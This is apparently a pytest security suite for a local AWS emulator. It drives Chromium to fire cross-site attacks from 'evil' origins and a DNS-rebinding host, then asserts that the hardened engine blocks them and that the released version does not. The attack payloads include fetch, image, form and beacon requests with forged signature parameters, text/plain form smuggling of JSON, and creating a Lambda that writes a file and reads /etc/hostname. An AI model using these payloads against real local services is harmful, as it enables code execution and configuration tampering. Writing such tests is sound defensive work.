"""Attacks on the engine by a web page that is open in a browser of this machine, tried in Chromium.

Each attack works on the emulator as released, which proves the attack.
"""

import base64
import hashlib
import io
import json
import secrets
import sys
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlencode

import pytest

from tests.local.conftest import Deployed
from tests.support.browser import Browser, chromium

pytestmark = pytest.mark.slow

PASSWORD = "Correct1!horse"
EVIL_HOSTS = ["127.0.0.1", "evil.localhost", "evil.test"]
CODE = """
import pathlib
def handler(event, context):
    pathlib.Path(event["mark"]).write_text("a page was here")
    return {"read": pathlib.Path("/etc/hostname").read_text()}
"""

# ── What a page tries. Each returns "blocked", or what it could read. ──

FETCH = """
const claimed = service => "X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Signature=0"
    + "&X-Amz-Credential=" + encodeURIComponent(`test/20260101/us-east-1/${service}/aws4_request`);
const ask = (path, options) => fetch(engine + path, options).then(
    async answer => answer.status == 403 ? "blocked" : answer.type + answer.status + await answer.text(), () => "blocked");
const functions = "/2015-03-31/functions";
"""
ATTACKS = {
    "reads by a simple request": "ask(functions + '?' + claimed('lambda'))",
    "creates a function by a simple request": """ask(functions + '?' + claimed('lambda'), {
        method: 'POST', headers: {'content-type': 'text/plain'}, body: JSON.stringify({...func, FunctionName: 'by-fetch'})})""",
    "runs a function": """ask(functions + '/by-fetch/invocations?' + claimed('lambda'), {
        method: 'POST', body: JSON.stringify({mark})})""",
    "calls with a preflight": """ask('/?' + claimed('dynamodb'), {method: 'POST', body: '{}', headers: {
        'content-type': 'application/x-amz-json-1.0', 'x-amz-target': 'DynamoDB_20120810.ListTables'}})""",
    "creates a queue by an image": """new Promise(done => {
        const image = new Image();
        image.onload = image.onerror = () => done('unreadable');
        image.src = engine + '/?Action=CreateQueue&QueueName=by-image&' + claimed('sqs');
    })""",
    "creates a function by a form": """new Promise(done => {
        const [frame, form, field] = ['iframe', 'form', 'input'].map(name => document.createElement(name));
        frame.name = form.target = 'frame';
        document.body.append(frame, form);
        form.action = engine + functions + '?' + claimed('lambda');
        form.method = 'POST', form.enctype = 'text/plain';
        const body = JSON.stringify({...func, FunctionName: 'by-form', Description: '='});
        const middle = body.lastIndexOf('=');  // a form sends NAME=VALUE
        field.name = body.slice(0, middle), field.value = body.slice(middle + 1);
        form.append(field), form.submit();
        setTimeout(() => done('unreadable'), 1000);
    })""",
    "changes the configuration by a beacon": """new Promise(done => {
        navigator.sendBeacon(engine + '/_ministack/config', '{"alb.TARGET_CONNECT_TIMEOUT": 1}');
        setTimeout(() => done('unreadable'), 300);
    })""",
    "opens a WebSocket": """new Promise(done => {
        const socket = new WebSocket(engine.replace('http', 'ws') + '/');
        socket.onopen = () => done('open');
        socket.onclose = () => done('blocked');
    })""",
}


@pytest.fixture(scope="session")
def browser(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Browser]:
    """Start a browser for which names in .test are this machine, as with an attacker's DNS (rebinding)."""
    names = "--host-resolver-rules=MAP *.test 127.0.0.1"
    with chromium(tmp_path_factory.mktemp("browser") / "profile", options=[names]) as browser:
        yield browser


@pytest.fixture(scope="session")
def app(twin: Deployed, app_url: str) -> str:
    """Open the page of a front end whose origin may call the API."""
    cors = {
        "AllowOrigins": ["http://one.test", "http://two.test", app_url],
        "AllowMethods": ["GET"],
        "AllowHeaders": ["authorization"],
    }
    twin.client("apigatewayv2").update_api(ApiId=twin.outputs["SamApi"], CorsConfiguration=cors)
    return app_url


def attack(browser: Browser, deployed: Deployed, mark: Path) -> dict[str, str]:
    """Run each attack in order, and return what the page could read."""
    function = {
        "Runtime": f"python{'.'.join(map(str, sys.version_info[:2]))}",
        "Handler": "index.handler",
        "Role": _role(deployed),
        "Code": {"ZipFile": base64.b64encode(_zipped(CODE)).decode()},
    }
    given = f"const [engine, func, mark] = {json.dumps([deployed.engine.url, function, str(mark)])};"
    return {
        name: browser.run(f"(async () => {{ {given}{FETCH} return await {script} }})()") for name, script in ATTACKS.items()
    }


@pytest.mark.parametrize("host", EVIL_HOSTS)
def test_page_cannot_create_run_read_or_change_anything(
    browser: Browser, twin: Deployed, pages_port: int, host: str, tmp_path: Path
) -> None:
    before = _made(twin)
    browser.open(f"http://{host}:{pages_port}/")
    assert set(attack(browser, twin, tmp_path / "mark").values()) <= {"blocked", "unreadable"}
    assert (_made(twin), (tmp_path / "mark").exists()) == (before, False)


def test_page_of_the_api_itself_cannot_either(browser: Browser, twin: Deployed, tmp_path: Path) -> None:
    before = _made(twin)
    browser.open(twin.url("SamApi", "/open/x"))
    assert set(attack(browser, twin, tmp_path / "mark").values()) <= {"blocked", "unreadable"}
    assert (_made(twin), (tmp_path / "mark").exists()) == (before, False)


def test_released_allows_any_page_all_of_it(browser: Browser, released: Deployed, pages_port: int, tmp_path: Path) -> None:
    browser.open(f"http://evil.localhost:{pages_port}/")
    read = attack(browser, released, tmp_path / "mark")
    assert {name for name, what in read.items() if what == "blocked"} <= {"opens a WebSocket"}
    assert Path("/etc/hostname").read_text().strip() in read["runs a function"]
    assert (tmp_path / "mark").read_text() == "a page was here"
    assert {"by-fetch", "by-form", "by-image"} <= _made(released)


@pytest.mark.parametrize("path", ["/", "/2015-03-31/functions", "/_ministack/health"])
def test_rebound_host_name_shows_nothing(browser: Browser, twin: Deployed, path: str) -> None:
    browser.open(f"http://rebound.test:{twin.engine.port}{path}")
    assert browser.run("document.body.innerText").startswith("The local engine answers signed requests.")


# ── What the page of an app may do ──


def test_app_of_a_listed_origin_calls_the_api(browser: Browser, twin: Deployed, app: str) -> None:
    browser.open(app)
    assert _fetch(browser, twin.url("SamApi", "/open/x"))["status"] == 200


def test_page_of_another_origin_cannot_read_the_api(browser: Browser, twin: Deployed, pages_port: int) -> None:
    browser.open(f"http://evil.localhost:{pages_port}/")
    assert _fetch(browser, twin.url("SamApi", "/open/x")) == {"status": 0}


def test_app_follows_a_signed_link(browser: Browser, twin: Deployed, app: str) -> None:
    s3, where = twin.s3, {"Bucket": twin.outputs["Bucket"], "Key": "result"}
    browser.open(app)
    put = s3.generate_presigned_url("put_object", {**where, "ContentType": "text/x"}, ExpiresIn=60)
    assert _fetch(browser, put, "PUT", "of the app", **{"content-type": "text/x"})["status"] == 200
    got = _fetch(browser, s3.generate_presigned_url("get_object", where, ExpiresIn=60))
    assert got == {"status": 200, "text": "of the app"}


def test_user_of_an_app_signs_in(browser: Browser, twin: Deployed, app: str) -> None:
    pool = twin.client("cognito-idp")
    pool.admin_create_user(UserPoolId=twin.outputs["Pool"], Username="ada", MessageAction="SUPPRESS")
    pool.admin_set_user_password(UserPoolId=twin.outputs["Pool"], Username="ada", Password=PASSWORD, Permanent=True)
    verifier = secrets.token_urlsafe(48)
    challenge = base64.urlsafe_b64encode(hashlib.sha256(verifier.encode()).digest()).rstrip(b"=").decode()
    client = {"client_id": twin.outputs["PoolClient"], "redirect_uri": app}
    wanted = {
        **client,
        "response_type": "code",
        "scope": "openid aws.cognito.signin.user.admin",
        "code_challenge": challenge,
        "code_challenge_method": "S256",
    }
    browser.open(app)
    browser.run(f"location.href = {json.dumps(f'{twin.engine.url}/oauth2/authorize?{urlencode(wanted)}')}")
    browser.wait_for("document.forms.length == 1 && document.readyState == 'complete'")
    fields = json.dumps({"username": "ada", "password": PASSWORD})
    browser.run(f"for (const [name, value] of Object.entries({fields})) document.forms[0][name].value = value")
    browser.run("document.forms[0].submit()")
    browser.wait_for("location.search.startsWith('?code=') && document.readyState == 'complete'")
    code = browser.run("new URLSearchParams(location.search).get('code')")
    body = urlencode({**client, "grant_type": "authorization_code", "code": code, "code_verifier": verifier})
    form = {"content-type": "application/x-www-form-urlencoded"}
    answer = _fetch(browser, f"{twin.engine.url}/oauth2/token", "POST", body, **form)
    assert answer["status"] == 200
    token = json.loads(answer["text"])["access_token"]
    assert _fetch(browser, twin.url("SamApi", "/guarded"), authorization=f"Bearer {token}")["status"] == 200


def _fetch(browser: Browser, url: str, method: str = "GET", body: str | None = None, **headers: str) -> dict[str, Any]:
    """Return the answer as the page sees it; status 0 if it may not."""
    options = json.dumps({"method": method, "headers": headers, **({} if body is None else {"body": body})})
    read = "async answer => ({status: answer.status, text: await answer.text()}), () => ({status: 0})"
    answer: dict[str, Any] = browser.run(f"fetch({json.dumps(url)}, {options}).then({read})")
    return answer


def _made(deployed: Deployed) -> set[str]:
    """Return the names of all functions and queues."""
    functions = deployed.client("lambda").list_functions()["Functions"]
    queues = deployed.client("sqs").list_queues()["QueueUrls"]
    return {function["FunctionName"] for function in functions} | {url.rpartition("/")[2] for url in queues}


def _role(deployed: Deployed) -> str:
    role: str = deployed.client("lambda").get_function_configuration(FunctionName=deployed.outputs["Function"])["Role"]
    return role


def _zipped(code: str) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("index.py", code)
    return buffer.getvalue()
